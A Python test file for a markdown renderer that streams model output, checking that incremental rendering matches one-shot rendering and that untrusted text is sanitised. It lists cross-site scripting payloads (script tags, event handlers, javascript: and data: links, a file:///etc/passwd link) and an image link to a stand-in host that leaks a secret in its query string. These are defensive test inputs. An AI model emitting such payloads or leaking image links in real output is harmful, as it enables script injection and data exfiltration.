"""Markdown rendering: safe for untrusted text, and incremental rendering that matches a one-shot
render however the text is split into tokens."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ollama_magic.markdown import IncrementalMarkdown, render_markdown

ADVERSARIAL = {
    "loose list": "- one\n\n- two\n\n- three\n\nAfter the list.\n",
    "tight then loose": "- a\n- b\n\n  continued b\n- c\n\nPara\n",
    "ordered list interrupting": "Intro:\n1. first\n2. second\n10. tenth\n\nDone.\n",
    "nested fences": "````md\n```py\nprint(1)\n```\n````\n\nText after.\n",
    "unclosed fence": "Before.\n\n```python\ndef f():\n    return 1\n\nstill code\n",
    "setext headings": "Title\n=====\n\nSub\n---\n\nPara\nstill para\n",
    "table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | `4` |\n\nAfter.\n",
    "table after paragraph": "Numbers:\n| x | y |\n|---|---|\n| 1 | 2 |\n",
    "lazy blockquote": "> quoted\nlazy continuation\n\n> another\n\nPlain.\n",
    "indented code": "Para\n\n    code line\n    more code\n\nAfter.\n",
    "headings and rules": "# H1\n## H2\n***\n---\nText\n",
    "unicode": "## Ünïcödé 東京 🎉\n\n- naïve — café\n- 日本語\n",
    "reference before use": "[ref]: https://example.com\n\nSee [the link][ref].\n",
    "deep nesting": "1. a\n   - b\n     > c\n     > d\n   - e\n2. f\n",
    "html-looking text": "<div>\n\n<b>bold?</b>\n\n</div>\n",
}


def stream_render(text: str, pieces: list[int]) -> tuple[IncrementalMarkdown, str, str]:
    """Feed ``text`` cut at ``pieces`` (sizes), updating after each piece.

    Returns the renderer, the HTML shown at the end (final blocks + tail) and the HTML of the
    blocks that update() handed out as final along the way.
    """
    inc = IncrementalMarkdown()
    position, tail, final = 0, "", ""
    for size in pieces:
        inc.feed(text[position : position + size])
        position += size
        new, tail = inc.update()
        final += "".join(new)
    inc.feed(text[position:])
    new, tail = inc.update()
    final += "".join(new)
    return inc, final + tail, final


def token_sizes(text: str) -> list[int]:
    """Word-ish tokens, as a model streams them."""
    import re

    return [len(t) for t in re.findall(r"\s*\S+|\s+", text)]


@pytest.mark.parametrize("name", ADVERSARIAL)
def test_incremental_render_equals_one_shot_render(name):
    text = ADVERSARIAL[name]
    for pieces in (token_sizes(text), [1] * len(text)):
        inc, html, _ = stream_render(text, pieces)
        assert html == render_markdown(text)
        assert inc.final_html() == render_markdown(text)


@pytest.mark.parametrize("name", ADVERSARIAL)
def test_committed_blocks_are_a_prefix_of_the_final_render(name):
    text = ADVERSARIAL[name]
    inc, final = IncrementalMarkdown(), ""
    for size in [1] * len(text):
        inc.feed(text[len(inc.text) : len(inc.text) + size])
        new, _ = inc.update()
        final += "".join(new)
        assert render_markdown(text).startswith(final)


def test_long_answers_commit_most_blocks():
    text = "".join(f"Paragraph {i} with some words.\n\n" for i in range(200))
    inc, html, _ = stream_render(text, token_sizes(text))
    assert html == render_markdown(text)
    assert len(inc._tail) < 100, "only the last block stays uncommitted"


def test_a_reference_defined_after_its_use_is_fixed_by_the_final_render():
    text = "See [the docs][d].\n\nMore.\n\n[d]: https://example.com\n"
    inc, _, _ = stream_render(text, token_sizes(text))
    assert 'href="https://example.com"' in inc.final_html()
    assert inc.final_html() == render_markdown(text)


BLOCKS = st.sampled_from(
    [
        "# Heading\n",
        "Heading\n===\n",
        "Para text here.\n",
        "lazy line\n",
        "\n",
        "- item\n",
        "* star item\n",
        "1. one\n",
        "2) two\n",
        "   indented continuation\n",
        "    code\n",
        "```\n",
        "```py\n",
        "> quote\n",
        "| a | b |\n",
        "|---|---|\n",
        "---\n",
        "[r]: https://example.com\n",
        "see [r] and *em* `code`\n",
        "Ünïcode 東京 🎉\n",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(BLOCKS, min_size=1, max_size=25), st.data())
def test_any_sequence_of_blocks_in_any_split(blocks, data):
    text = "".join(blocks)
    sizes = data.draw(st.lists(st.integers(1, 12), max_size=60))
    inc, html, final = stream_render(text, sizes)
    expected = render_markdown(text)
    assert inc.final_html() == expected
    if "[r]:" not in text:  # reference definitions after use are the documented exception
        assert expected.startswith(final)
        assert html == expected


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](vbscript:msgbox)",
    "[file](file:///etc/passwd)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "```\n</code><script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_model_written_html_and_unsafe_links_never_reach_the_html(attack):
    parser = _Elements()
    parser.feed(render_markdown(attack))
    for tag, attrs in parser.tags:
        assert tag not in ("script", "img", "svg", "details", "iframe", "animate")
        assert not any(name.startswith("on") for name in attrs)
        href = (attrs.get("href") or "").lower()
        assert not href.startswith(("javascript:", "vbscript:", "file:", "data:text"))


def test_remote_images_become_links_and_inline_images_stay():
    html = render_markdown("![chart](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert 'href="https://evil.example/leak?q=secret"' in html and "[image: chart]" in html
    pixel = "data:image/png;base64,iVBORw0KGgo="
    assert f'<img src="{pixel}" alt="dot">' in render_markdown(f"![dot]({pixel})")


def test_links_open_in_a_new_tab_without_a_referrer():
    html = render_markdown("[docs](https://ollama.com)")
    assert 'target="_blank"' in html and 'rel="noopener noreferrer"' in html


def test_headings_lists_code_tables_and_unicode_render():
    html = render_markdown(
        "# Title\n\n- a\n- b\n\n```python\nx = 1 < 2\n```\n\n| h |\n|---|\n| 東京 🎉 |\n"
    )
    assert "<h1>Title</h1>" in html and "<li>a</li>" in html
    assert '<code class="language-python">x = 1 &lt; 2' in html
    assert "<table>" in html and "<td>東京 🎉</td>" in html


def test_carriage_returns_count_as_line_breaks_even_split_across_pieces():
    text = "# Title\r\n\r\nPara one\r\rPara two\r\n- item\r\n"
    for sizes in ([1] * len(text), token_sizes(text)):
        inc, html, _ = stream_render(text, sizes)
        expected = render_markdown(text.replace("\r\n", "\n").replace("\r", "\n"))
        assert html == expected == inc.final_html()
        assert "\r" not in inc.text


# Markdown-dense text: the characters and line starts that change how blocks end.
PIECES = st.sampled_from(
    [
        *"#*-_`>|[]()!:=~<&\\ \t\n\r1.aé東🎉",
        "\n\n",
        "    ",
        "```",
        "~~~",
        "- ",
        "* ",
        "+ ",
        "1. ",
        "2) ",
        "> ",
        "| a | b |",
        "|---|",
        "===",
        "---",
        "<div>",
        "[r]: https://example.com",
        "[r]",
        "**bold**",
        "`code`",
        "word ",
    ]
)
MARKDOWNISH = st.lists(PIECES, max_size=120).map("".join)


def lines_normalised(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=300, deadline=None)
@given(MARKDOWNISH, st.lists(st.integers(1, 12), max_size=80))
def test_any_markdownish_text_in_any_split(text, sizes):
    inc, html, final = stream_render(text, sizes)
    expected = render_markdown(lines_normalised(text))
    assert inc.final_html() == expected
    if "]:" not in text:  # reference definitions after use are the documented exception
        assert expected.startswith(final)
        # A last lone \r may be half of a \r\n: frames wait for what follows (final_html not).
        shown = text[:-1] if text.endswith("\r") else text
        assert html == render_markdown(lines_normalised(shown))


@settings(max_examples=300, deadline=None)
@given(
    MARKDOWNISH,
    st.lists(st.tuples(st.integers(1, 16), st.sampled_from([0.0, 0.01, 0.05, 0.2])), max_size=80),
    st.sampled_from([64, 512]),
)
def test_the_live_view_ends_in_the_one_shot_render(text, steps, segment_bytes):
    """However the stream is cut into feed() calls and frames, the final frame shows the one-shot
    render once (in the first output; the others are emptied)."""
    from test_render import Clock, Recorder

    from ollama_magic.render import LiveMarkdown

    sink, clock = Recorder(), Clock()
    live = LiveMarkdown(sink, fps=10, clock=clock, segment_bytes=segment_bytes)
    position = 0
    for size, seconds in steps:
        clock.now += seconds
        live.feed(text[position : position + size])
        position += size
    live.feed(text[position:])
    live.finish()
    if not sink.outputs:  # nothing was fed: nothing to show
        assert not text
        return
    first, *rest = sink.outputs
    assert first.bundle["text/html"] == render_markdown(lines_normalised(text))
    assert first.bundle["text/plain"] == lines_normalised(text)
    assert all(o.bundle == {"text/html": "", "text/plain": ""} for o in rest)
